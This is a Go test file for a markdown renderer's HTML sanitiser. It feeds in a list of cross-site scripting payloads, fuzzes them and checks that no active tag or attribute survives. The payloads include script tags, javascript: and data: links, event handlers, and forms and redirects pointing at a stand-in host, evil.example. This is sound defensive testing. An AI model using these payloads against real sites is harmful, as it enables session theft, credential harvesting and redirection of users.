package markdown_test

import (
	"regexp"
	"strings"
	"testing"

	"github.com/belayhq/belay/internal/markdown"
)

func TestFormats(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"**do** _it_":            "<p><strong>do</strong> <em>it</em></p>",
		"# Title":                "<h1>Title</h1>",
		"- a\n- b":               "<ul>\n<li>a</li>\n<li>b</li>\n</ul>",
		"`a < b`":                "<p><code>a &lt; b</code></p>",
		"[docs](https://a.b/c)":  `<p><a href="https://a.b/c" rel="nofollow noreferrer noopener" target="_blank">docs</a></p>`,
		"a & b < c":              "<p>a &amp; b &lt; c</p>",
		"~~gone~~":               "<p><del>gone</del></p>",
		"<div>the *rest*\nstays": "<p>&lt;div&gt;the <em>rest</em>\nstays</p>",
		"raise <module> to v2":   "<p>raise &lt;module&gt; to v2</p>",
		"<https://a.b/c>":        `<p><a href="https://a.b/c" rel="nofollow noreferrer noopener" target="_blank">https://a.b/c</a></p>`,
		"a\n\n[b]: https://a.b":  "<p>a</p>",
	} {
		if got := strings.TrimSpace(string(markdown.HTML(text))); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

// attacks are ways that text has become action in other renderers.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<img src=x onerror=alert(1)>`,
	`<svg/onload=alert(1)>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<a href="javascript:alert(1)">x</a>`,
	`[x](javascript:alert(1))`,
	`[x](JaVaScRiPt:alert(1))`,
	`[x](  javascript:alert(1))`,
	"[x](java\tscript:alert(1))",
	"[x](java&#x0A;script:alert(1))",
	`[x](&#106;avascript:alert(1))`,
	`[x](vbscript:msgbox(1))`,
	`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`![x](javascript:alert(1))`,
	`![x](https://evil.example/pixel.png)`,
	`<javascript:alert(1)>`,
	`[x]: javascript:alert(1)` + "\n\n[x]",
	`[x](https://a.b "onmouseover=alert(1)")`,
	`[x](https://a.b"onmouseover="alert(1))`,
	`<a href="https://a.b" onclick="alert(1)">x</a>`,
	`<style>body{display:none}</style>`,
	`<p style="position:fixed">x</p>`,
	`<form action=//evil.example><input name=password></form>`,
	`<object data=x></object><embed src=x>`,
	`<base href=//evil.example>`,
	`<meta http-equiv=refresh content="0;url=//evil.example">`,
	`<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	"```\n</code></pre><script>alert(1)</script>\n```",
	"`</code><script>alert(1)</script>`",
	`<details open ontoggle=alert(1)>`,
	"\x00<script>alert(1)</script>",
	`<<script>script>alert(1)<</script>/script>`,
	`[x](//evil.example)`,
	"|a|\n|-|\n|<img src=x onerror=alert(1)>|",
}

var acting = regexp.MustCompile(`(?i)<(script|img|svg|iframe|style|form|input|object|embed|base|meta|math|details|noscript)|<[^>]*\s(on\w+|style|src)\s*=|href="(?:[^hm]|h[^t]|m[^a])`)

func TestNothingActs(t *testing.T) {
	t.Parallel()
	for _, text := range attacks {
		if got := string(markdown.HTML(text)); acting.MatchString(got) {
			t.Errorf("%q becomes %q", text, got)
		}
	}
}

func FuzzNothingActs(f *testing.F) {
	for _, text := range attacks {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if got := string(markdown.HTML(text)); acting.MatchString(got) {
			t.Errorf("%q becomes %q", text, got)
		}
	})
}

// TestWhatWouldTakeLongIsShownAsItStands gives texts that the parser takes seconds for.
func TestWhatWouldTakeLongIsShownAsItStands(t *testing.T) {
	t.Parallel()
	for _, part := range []string{">", "[a](b", "*a_", "~a*", "1. "} {
		got := string(markdown.HTML(strings.Repeat(part, 20_000) + "<script>"))
		if !strings.HasPrefix(got, "<pre>") || strings.Contains(got, "<script>") {
			t.Errorf("%q is parsed: %.60s", part, got)
		}
	}
	if got := string(markdown.HTML("> quoted\n\n1. *one* [two](https://example.com)")); !strings.Contains(got, "<em>one</em>") {
		t.Errorf("plain markdown is not parsed: %s", got)
	}
}
